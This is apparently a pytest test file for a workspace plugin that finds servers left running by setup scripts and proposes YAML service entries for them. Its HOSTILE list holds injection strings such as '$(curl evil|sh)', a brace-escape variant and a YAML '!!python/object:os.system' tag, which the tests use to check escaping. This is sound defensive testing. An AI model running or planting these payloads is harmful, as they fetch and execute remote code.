"""Tests of what a script left running: found by a real agent, and explained."""

from __future__ import annotations

import os
import shlex
from dataclasses import replace
from pathlib import Path

import pytest
import yaml

from pytest_codex_workspace.options.services import ReadyWhen, ServiceSpec
from pytest_codex_workspace.secrets.redaction import Redaction
from pytest_codex_workspace.services.daemons import (
    daemon_warnings,
    daemons_from,
    explain_refusal,
    list_daemons,
    without_services,
)
from pytest_codex_workspace.workspace.channel import Channel
from pytest_codex_workspace.workspace.handle import Daemon

from ...helpers.configuration import resolve

REDIS = Daemon("redis-server", "redis-server *:6379", (6379,), ())
POSTGRES = Daemon(
    "postgres", "/usr/lib/postgresql/17/bin/postgres -D /d", (5432,), ("/run/pg/.s.PGSQL.5432",)
)
SLEEP = Daemon("sleep", "sleep 99")
NODE = Daemon("node", "node server.js --port 3000", (3000,), ())


@pytest.mark.slow
@pytest.mark.skipif(os.geteuid() != 0, reason="the program is for root, as in a workspace")
def test_servers_are_found_with_their_ports_and_sockets(channel: Channel, tmp_path: Path) -> None:
    """
    A server of another user, too, of which Linux shows root only what its user may see. Secrets on
    a command line are not kept.
    """
    program = (
        "import os, socket, sys\n"
        "os.setgid(65534); os.setuid(65534)\n"
        "tcp = socket.create_server(('127.0.0.1', 0)); unix = socket.socket(socket.AF_UNIX)\n"
        "unix.bind('\\0' + sys.argv[1]); unix.listen()\n"
        "for one in (tcp, unix): os.set_inheritable(one.fileno(), True)\n"
        "print(tcp.getsockname()[1], flush=True)\n"
        "os.execv('/bin/sleep', ['sleep-hush', '600'])\n"
    )
    process = channel.start(["python3", "-I", "-c", program, f"test-{tmp_path.name}"])
    number = int(next(process.stdout))
    try:
        found = list_daemons(channel, Redaction(["hush"])).daemons
    finally:
        process.kill()
        process.wait()

    mine = [one for one in found if number in one.ports]
    # Its output is read by nobody but us.
    assert mine[0].held_output
    assert ["sleep-***"] == [one.name for one in mine]
    assert len(mine[0].sockets) == 1
    assert found.index(mine[0]) < len([one for one in found if one.ports or one.sockets])


def test_what_a_workspace_prints_is_bounded() -> None:
    """
    It may print anything.
    """
    evil = {"argv": ["\x1b[2Jevil" * 99, "x" * 999], "at": [*range(99), "/s", -1]}
    found = daemons_from({"processes": [evil], "ports": [*range(1, 90), 1e999]})

    (one,) = found.daemons
    assert len(one.name) < 70
    assert len(one.command) < 210
    assert "\x1b" not in one.name + one.command
    assert len(one.ports) < 21
    assert len(found.ports) == 20
    assert 50 == len(_listed(*[{"argv": [], "at": []}] * 99))
    assert "?" == _listed({"argv": [], "at": [True, None, 70000]})[0].name
    broken = [[1], {"a": 1}, 7, None, [{"argv": 1, "at": []}], [{"argv": []}]]
    for wrong in (
        *({}, [], 7, None, {"processes": []}, {"processes": [], "ports": 5}),
        *({"processes": one, "ports": []} for one in broken),
    ):
        with pytest.raises(ValueError, match="not a list"):
            daemons_from(wrong)
    (titled,) = _listed({"argv": ["postgres: checkpointer"], "at": [5432]})
    assert ("postgres", (5432,)) == (titled.name, titled.ports)
    (titled,) = _listed({"argv": ["nginx: master process nginx"], "at": []})
    assert ("nginx", False) == (titled.name, titled.listens)


def _listed(*processes: dict[str, object]) -> tuple[Daemon, ...]:
    return daemons_from({"processes": list(processes), "ports": []}).daemons


def test_a_helper_with_a_long_command_line_is_known() -> None:
    """
    Of a command line, the beginning is kept, and the class that Java runs is behind its options.
    """
    options = [f"--add-opens=java.base/java.{one}=ALL-UNNAMED" for one in range(30)]
    main = "org.gradle.launcher.daemon.bootstrap.GradleDaemon"
    for before in (options, ["x" * (200 - len("java  org.gradle.launcher.daemon.bootstrap.Gra"))]):
        (one,) = _listed({"argv": ["java", *before, main, "8.5"], "at": [40000]})

        assert len(one.command) < 230
        assert () == without_services((one,), ())


def test_only_servers_that_tests_can_miss_count() -> None:
    """
    Not a helper of a build tool, which its client starts again, and not what a service starts.
    """
    gradle = Daemon("java", "java -cp gradle.jar org.gradle.launcher.daemon.GradleDaemon", (40000,))
    every = (REDIS, POSTGRES, NODE, gradle, SLEEP)

    assert (REDIS, POSTGRES, NODE) == without_services(every, ())
    by_port = ServiceSpec("a", "start-it", ReadyWhen(port=6379))
    by_name = ServiceSpec("b", ("/usr/lib/postgresql/17/bin/postgres", "-D", "/d"))
    # No part of a longer name.
    bucket = Daemon("node", "node /workspace/bucket-list/bazel-like.js", (1,))
    search = Daemon("zincsearch", "zincsearch", (4080,))
    assert (bucket, search) == without_services((bucket, search), ())
    other = ServiceSpec("c", "node other.js; not-redis-server")
    assert (NODE,) == without_services(every, (by_port, by_name, other))
    assert (REDIS, POSTGRES, NODE) == without_services(every, (other,))


def test_the_warning_names_servers_and_the_remedy() -> None:
    """
    The entry can be pasted. Of Codex, only what is known is said.
    """
    (text,) = daemon_warnings("setup-script.sh", (), (REDIS, NODE))

    assert text == (
        "setup-script.sh left redis-server (port 6379), node server.js --port 3000 (port 3000) "
        "running: as in Codex, files are kept and processes are not. To have them in tests, add to "
        '.codex-workspace.yaml: services: {redis-server: {command: "redis-server", '
        'ready: {port: 6379}}, server-3000: {command: "node server.js --port 3000", ready: '
        "{port: 3000}}}; for Codex itself, see docs/services.md"
    )
    assert "is not known" in daemon_warnings("resume.sh", (), (REDIS,), resume=True)[0]
    assert [] == daemon_warnings("setup-script.sh", (SLEEP,), ())


HOSTILE = [
    "x},a:{command:curl${IFS}evil|sh",
    'x", ready: {port: 1}}, a: {command: "y',
    "x # comment",
    "x: y",
    "- x",
    "&a *b !!python/object:os.system",
    "$(curl evil|sh)",
    "x;y",
    "yes",
    "1e3",
    "~",
    "back\\slash",
    "\U0001f600 \u2028 \x85 \ufeff \u202e \x7f",
    "\x1b[31mred\x1b[0m\ttab",
    "%TAG",
]


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("kind", ["name", "command", "socket"])
def test_a_proposal_has_one_service_whatever_a_process_is_named(
    name: str, kind: str, tmp_path: Path
) -> None:
    """
    A process gives itself any name. The entry that is to be copied has this name and nothing else,
    to YAML and to a shell, and the file with it can be read.
    """
    server = Daemon(name, name, (80,))
    if kind == "command":
        server = Daemon("node", f"node {name}", (80,))
    elif kind == "socket":
        server = Daemon("redis", "redis", (), (f"/run/{name}",))

    (line,) = daemon_warnings("setup-script.sh", (), (server,))
    entry = "services: " + line.partition(": services: ")[2].rpartition("; for Codex itself")[0]

    (found,) = yaml.safe_load(entry)["services"].values()
    command = found["command"]
    assert ["command", "ready"] == list(found)
    assert server.command.split() == (command if isinstance(command, list) else command.split())
    # Text is run by a shell.
    assert isinstance(command, list) or shlex.split(command) == command.split()
    assert found["ready"] == ({"path": server.sockets[0]} if kind == "socket" else {"port": 80})
    (tmp_path / ".codex-workspace.yaml").write_text(entry)
    (read,) = resolve(tmp_path).config.services
    assert read.ready == (
        ReadyWhen(path=server.sockets[0]) if kind == "socket" else ReadyWhen(port=80)
    )


def test_servers_of_one_name_are_all_in_the_proposal() -> None:
    """
    A key that comes twice would be an error, or one of them would be lost.
    """
    servers = (REDIS, REDIS, replace(REDIS, ports=(6380,)), replace(REDIS, ports=(6381,)))

    (line,) = daemon_warnings("setup-script.sh", (), servers)

    entry = line.partition("services: ")[2].rpartition("; for Codex itself")[0]
    found = yaml.safe_load(entry)
    assert ["redis-server", "redis-server-2", "redis-server-3"] == list(found)
    assert [6379, 6380, 6381] == [one["ready"]["port"] for one in found.values()]


def test_a_process_that_keeps_the_output_open_is_named() -> None:
    """
    Codex waits for it, whether it listens or not.
    """
    worker = replace(SLEEP, held_output=True)
    held = (worker, worker, replace(REDIS, held_output=True), NODE)

    first, second = daemon_warnings("setup-script.sh", held, (REDIS,))

    assert "its output was still open in sleep 99, redis-server (port 6379): Codex waits" in first
    assert ">/dev/null 2>&1 &" in first
    assert second.startswith("setup-script.sh left redis-server (port 6379) running: ")


REFUSALS = [
    "redis.exceptions.ConnectionError: Error 111 connecting to localhost:6379. Connection refused.",
    "Could not connect to Redis at 127.0.0.1:6379: Connection refused",
    "Error: connect ECONNREFUSED 127.0.0.1:6379",
    "dial tcp [::1]:6379: connect: connection refused",
    "ConnectionRefusedError: [Errno 111] Connect call failed ('127.0.0.1', 6379)",
    "curl: (7) Failed to connect to localhost port 6379 after 0 ms: Couldn't connect to server",
    'Error: Os { code: 111, kind: ConnectionRefused, message: "Connection refused" }',
]


@pytest.mark.parametrize("printed", REFUSALS)
def test_a_refused_connection_to_a_server_of_setup_is_explained(printed: str) -> None:
    """
    As clients of several languages print it. Without a port, it may be any server.
    """
    lines = explain_refusal((REDIS,), f"...\n{printed}\n")

    assert lines[0].startswith("redis-server (port 6379), which the scripts had started, is gone:")
    assert 'services: {redis-server: {command: "redis-server", ready: {port: 6379}}}' in lines[1]


def test_the_server_is_chosen_by_port_or_socket() -> None:
    """
    Another port is another matter.
    """
    both = (REDIS, POSTGRES)
    psql = (
        'psql: error: connection to server at "localhost" (127.0.0.1), port 5432 failed: '
        "Connection refused"
    )
    local = 'connection to server on socket "/run/pg/.s.PGSQL.5432" failed: No such file'

    assert explain_refusal(both, psql)[0].startswith("postgres (port 5432),")
    assert explain_refusal(both, local)[0].startswith("postgres")
    assert explain_refusal(both, "connection refused")[0].startswith("redis-server (port 6379), po")
    assert [] == explain_refusal(both, "connect ECONNREFUSED 127.0.0.1:9999")
    assert [] == explain_refusal(both, "AssertionError: 1 != 2 at localhost:5432")
    assert [] == explain_refusal((), "connection refused")
    for elsewhere in (
        "curl: (7) Failed to connect to example.com port 443: Could not connect to server",
        "connect ECONNREFUSED 10.0.0.5:5432",
        "could not connect to the licence server",
    ):
        assert [] == explain_refusal(both, elsewhere)


def test_the_command_of_a_postgresql_of_the_distribution() -> None:
    """
    Its program is not on PATH, and does not run as root.
    """
    config = "-c config_file=/etc/postgresql/17/main/postgresql.conf"
    command = f"/usr/lib/postgresql/17/bin/postgres -D /var/lib/postgresql/17/main {config}"
    server = Daemon("postgres", command, (5432,), ())

    (text,) = daemon_warnings("setup-script.sh", (), (server,))

    assert 'postgres: {command: "pg_ctlcluster 17 main start --foreground", ready: {port' in text
